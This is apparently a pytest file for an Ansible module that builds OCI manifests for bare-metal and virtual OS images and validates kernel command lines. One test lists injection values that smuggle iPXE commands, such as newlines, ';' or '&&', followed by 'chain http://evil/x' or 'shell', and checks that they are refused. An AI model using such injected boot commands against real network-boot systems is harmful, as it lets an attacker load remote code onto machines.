from __future__ import annotations

import json

import pytest

from ansible_collections.ironcore.image.plugins.module_utils import _manifest as manifest
from ansible_collections.ironcore.image.plugins.module_utils._model import (
    CONFIG_MEDIA_TYPE,
    OCI_MANIFEST,
    TITLE_ANNOTATION,
)

DIGEST = "sha256:" + "0" * 64


def layer(role: str) -> dict:
    return manifest.descriptor(
        "application/vnd.ironcore.image." + role, DIGEST, 1, annotations={TITLE_ANNOTATION: role}
    )


def config() -> dict:
    return manifest.descriptor_for(CONFIG_MEDIA_TYPE, manifest.config_document("console=ttyS0"))


def test_canonical_json_is_sorted_and_compact():
    assert manifest.canonical_json({"b": 1, "a": [1, {"d": 2, "c": "é"}]}) == '{"a":[1,{"c":"é","d":2}],"b":1}'.encode()


def test_config_document():
    assert json.loads(manifest.config_document("x y")) == {"commandLine": "x y"}
    assert manifest.config_document(None) == b"{}"


def build(platform: str, roles: list[str], arch: str = "amd64") -> bytes:
    return manifest.build_manifest(platform, arch, "os-%s-%s" % (platform, arch), config(), [layer(r) for r in roles])


def test_baremetal_manifest_in_order():
    data = build("baremetal", ["kernel", "initramfs", "squashfs", "rootfs"])
    document = json.loads(data)
    assert document["mediaType"] == OCI_MANIFEST
    assert [entry["annotations"][TITLE_ANNOTATION] for entry in document["layers"]] == [
        "kernel",
        "initramfs",
        "squashfs",
        "rootfs",
    ]
    assert document["annotations"] == {
        "variant": "metal",
        "architecture": "amd64",
        TITLE_ANNOTATION: "os-baremetal-amd64",
        "io.ironcore.image.platform": "baremetal",
    }
    assert manifest.canonical_json(document) == data


def test_spec_annotations_on_virtualization_manifest():
    document = json.loads(build("virtualization", ["rootfs"], "arm64"))
    assert document["annotations"]["variant"] == "virtualization"
    assert document["annotations"]["architecture"] == "arm64"


def test_manifest_title_is_the_image_without_its_tag():
    assert manifest.manifest_title("os/gardenlinux", "baremetal", "arm64") == "gardenlinux-metal-arm64"
    assert manifest.manifest_title("x", "virtualization", "amd64") == "x-virtualization-amd64"


def test_squashfs_may_be_the_baremetal_root():
    assert json.loads(build("baremetal", ["kernel", "initramfs", "squashfs"]))["layers"][2]["digest"] == DIGEST


@pytest.mark.parametrize("field", ["digest", "mediaType"])
def test_descriptor_with_a_trailing_newline_is_invalid(field):
    rootfs = layer("rootfs")
    rootfs[field] += "\n"
    with pytest.raises(manifest.InvalidDocument, match="invalid"):
        manifest.build_manifest("virtualization", "amd64", "t", config(), [rootfs])


@pytest.mark.parametrize(
    "platform, roles, message",
    [
        ("baremetal", ["initramfs", "rootfs"], "lacks the kernel"),
        ("baremetal", ["kernel", "initramfs"], "needs a rootfs or a squashfs layer"),
        ("baremetal", ["initramfs", "kernel", "rootfs"], "must be ordered"),
        ("baremetal", ["kernel", "initramfs", "rootfs", "squashfs"], "must be ordered"),
        ("virtualization", ["rootfs", "squashfs"], "must not carry squashfs"),
        ("virtualization", [], "invalid"),
    ],
)
def test_manifest_profile_rules(platform, roles, message):
    with pytest.raises(manifest.InvalidDocument, match=message):
        build(platform, roles)


def test_manifest_title_must_match_media_type():
    bad = layer("kernel")
    bad["annotations"][TITLE_ANNOTATION] = "rootfs"
    with pytest.raises(manifest.InvalidDocument, match="titles"):
        manifest.build_manifest("virtualization", "amd64", "t", config(), [bad])


def entry(arch: str, variant: str | None) -> dict:
    return manifest.platform_entry(manifest.descriptor(OCI_MANIFEST, DIGEST, 10), arch, variant)


def test_index_accepts_baremetal_first():
    data = manifest.build_index([entry("amd64", "baremetal"), entry("amd64", "virtualization")], {"a": "b"})
    assert json.loads(data)["annotations"] == {"a": "b"}


def test_combined_index_entries_carry_the_spec_annotations():
    assert entry("arm64", "baremetal")["annotations"] == {"variant": "metal", "architecture": "arm64"}
    assert entry("amd64", "virtualization")["platform"] == {
        "architecture": "amd64",
        "os": "linux",
        "variant": "virtualization",
    }
    assert "annotations" not in entry("amd64", None)
    stripped = dict(entry("amd64", "baremetal"), annotations={"variant": "baremetal", "architecture": "amd64"})
    with pytest.raises(manifest.InvalidDocument, match="must carry the annotations"):
        manifest.build_index([stripped])


@pytest.mark.parametrize(
    "entries, message",
    [
        ([("amd64", "virtualization"), ("amd64", "baremetal")], "before baremetal"),
        ([("amd64", None), ("amd64", None)], "twice"),
        ([("s390x", None)], "invalid"),
        ([], "invalid"),
    ],
)
def test_index_rules(entries, message):
    with pytest.raises(manifest.InvalidDocument, match=message):
        manifest.build_index([entry(arch, variant) for arch, variant in entries])


def test_index_annotations_must_be_strings():
    with pytest.raises(manifest.InvalidDocument, match="annotations"):
        manifest.build_index([entry("amd64", None)], {"n": 1})


@pytest.mark.parametrize(
    "cmdline",
    [
        "console=ttyS0 root=LABEL=ROOT",
        "console=ttyS0,115200n8 ro quiet",
        "init=/sbin/init a;b x&&y opt=#1 100%",
        'dyndbg="file drivers/usb/* +p" it\'s=fine x=""',
        "",
    ],
)
def test_ordinary_command_lines_pass_unchanged(cmdline):
    assert manifest.check_command_line(cmdline) == cmdline


@pytest.mark.parametrize("ending", ["\n", "\r\n", "\n\n"])
def test_trailing_newline_of_legacy_images_is_trimmed(ending):
    assert manifest.check_command_line("console=ttyS0 ro" + ending) == "console=ttyS0 ro"


@pytest.mark.parametrize(
    ("cmdline", "token", "reason"),
    [
        ("console=ttyS0\nchain http://evil/x", "'console=ttyS0\\nchain'", "control character"),
        ("ro\timgfetch", "'ro\\timgfetch'", "control character"),
        ("ro \x1b[2J", "'\\x1b[2J'", "control character"),
        ("ro \x85x", "'\\x85x'", "control character"),
        ("root=${root}", "'root=${root}'", "'$'"),
        ("ro ; chain http://evil/x", "';'", "end iPXE's kernel command"),
        ("ro && shell", "'&&'", "end iPXE's kernel command"),
        ("ro || shell", "'||'", "end iPXE's kernel command"),
        ("ro #hidden rest", "'#hidden'", "comment"),
        ('ro dyndbg="file x.c +p', "'dyndbg=\"file'", "double quote that is never closed"),
        ('a="b" c="d e" f="g', "'f=\"g'", "double quote that is never closed"),
    ],
)
def test_command_lines_iPXE_would_run_are_refused(cmdline, token, reason):
    with pytest.raises(manifest.UnsafeCommandLine) as caught:
        manifest.check_command_line(cmdline)
    message = str(caught.value)
    assert "\n" not in message
    assert message.startswith(token)
    assert reason in message


@pytest.mark.parametrize(
    "media_type",
    [
        "application/vnd.ironcore.image.disk.img",
        "application/vnd.ironcore.image.rootfs.v1alpha1.rootfs",
        "application/io.gardenlinux.squashfs",
    ],
)
def test_read_only_media_types_are_never_written(media_type):
    role = "squashfs" if "squashfs" in media_type else "rootfs"
    foreign = manifest.descriptor(media_type, DIGEST, 1, annotations={TITLE_ANNOTATION: role})
    with pytest.raises(manifest.InvalidDocument, match="read, never written"):
        manifest.build_manifest(
            "virtualization" if role == "rootfs" else "baremetal",
            "amd64",
            "t",
            config(),
            [
                *([layer("kernel"), layer("initramfs")] if role == "squashfs" else []),
                foreign,
            ],
        )
